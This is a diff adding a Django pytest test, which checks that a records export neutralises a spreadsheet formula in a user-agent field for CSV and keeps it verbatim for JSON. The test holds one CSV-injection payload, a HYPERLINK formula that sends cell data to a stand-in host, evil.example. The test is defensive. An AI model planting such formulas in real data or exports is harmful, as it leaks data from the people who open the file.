@@ -5,8 +5,10 @@ import io
 import json
 
 import pytest
+from django.utils import timezone
 
-from affirmations.models import Disclosure, Record
+from affirmations.models import Disclosure, Record, RecordEvent
+from affirmations.records import Actor, record_append
 from affirmations.seed import seed_reference_data
 
 from .conftest import request_agreement, residential
@@ -107,3 +109,21 @@ def test_staff_export_by_each_subject_in_each_format(admin_client, active_csp, s
     expected = 4 if subject == "csp" else 2
     assert len(rows) == expected
     assert {str(r["csp_id"]) for r in rows} == {str(active_csp.pk)}
+
+
+def test_a_csv_export_neutralises_a_formula_in_a_user_agent_and_json_keeps_it_exact(
+    admin_client, active_csp
+):
+    agreement = request_agreement(active_csp, residential())
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    record_append(event=RecordEvent.OPTED_OUT, agreement=agreement, now=timezone.now(),
+                  actor=Actor.customer(ip="198.51.100.7", user_agent=attack))  # fmt: skip
+    query = {"agreement": agreement.pk}
+
+    rows = list(
+        csv.DictReader(io.StringIO(_content(admin_client.get(EXPORT, query | {"format": "csv"}))))
+    )
+    exact = json.loads(_content(admin_client.get(EXPORT, query | {"format": "json"})))
+
+    assert rows[-1]["user_agent"] == "'" + attack
+    assert exact[-1]["user_agent"] == attack
